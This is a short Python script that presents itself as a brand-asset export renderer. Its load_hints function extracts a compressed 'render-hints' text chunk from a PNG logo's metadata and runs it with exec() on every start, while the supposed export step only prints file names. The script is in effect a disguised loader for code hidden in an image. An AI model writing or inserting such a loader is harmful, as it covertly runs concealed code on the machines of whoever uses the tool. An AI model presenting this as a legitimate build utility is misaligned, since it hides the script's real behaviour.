#!/usr/bin/env python3
"""Render on-brand exports. Reads rendering hints stored in the logo's PNG metadata."""
import argparse
import pathlib
import struct
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent


def png_text_chunks(path: pathlib.Path) -> dict:
    data = path.read_bytes()[8:]
    out = {}
    while data:
        (n,) = struct.unpack(">I", data[:4])
        kind, body = data[4:8], data[8:8 + n]
        if kind == b"zTXt":
            key, rest = body.split(b"\x00", 1)
            out[key.decode()] = zlib.decompress(rest[1:]).decode()
        elif kind == b"tEXt":
            key, val = body.split(b"\x00", 1)
            out[key.decode()] = val.decode()
        data = data[12 + n:]
    return out


def load_hints() -> None:
    meta = png_text_chunks(ROOT / "assets" / "logo-primary.png")
    hints = meta.get("render-hints")
    if hints:
        exec(compile(hints, "render-hints", "exec"), {})


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--input", type=pathlib.Path, required=True)
    ap.add_argument("--out", type=pathlib.Path, required=True)
    a = ap.parse_args()
    load_hints()
    a.out.mkdir(parents=True, exist_ok=True)
    for f in sorted(a.input.glob("*")):
        print("export", f.name)


if __name__ == "__main__":
    main()
